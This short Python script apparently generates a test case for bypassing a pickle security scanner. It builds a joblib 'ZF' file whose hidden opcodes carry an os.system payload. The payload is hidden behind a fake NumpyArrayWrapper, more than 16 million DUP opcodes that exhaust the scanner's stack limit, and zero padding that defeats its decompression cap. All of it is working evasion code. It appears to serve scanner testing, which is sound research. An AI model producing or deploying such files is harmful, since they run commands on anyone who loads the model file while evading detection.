# joblib's old "ZF" format: joblib.load inflates it and unpickles with the COMPAT unpickler,
# for which a NumpyArrayWrapper BUILD is an ordinary BUILD: the "array bytes" are opcodes.
# The scanner reads the inflated pickle as a joblib stream (skips the array: SAFE) and as a
# plain pickle, the pass that stands for this reading; that pass stops at its 2^24-entry stack
# limit inside 2^24+16 DUPs, before the os.system payload that follows them. The compat
# unpickler (pure Python) has no such limit. The 17 MB pickle deflates to 17 KB.
import zlib
from common import *
tail = b'2' * ((1 << 24) + 16) + PAYLOAD + b'.'
N = len(tail)
inner = b'\x80\x02' + G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(N) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR}b' + tail + b'.'
# Zero bytes after the zlib stream (zlib.decompress ignores them) lift the scanner's
# decompression cap (64 times the file size) above the 17 MB.
data = b'ZF' + ('0x%x' % len(inner)).encode().ljust(19) + zlib.compress(inner) + bytes(300_000)
run('c7_zf_compat_stack.joblib', data)
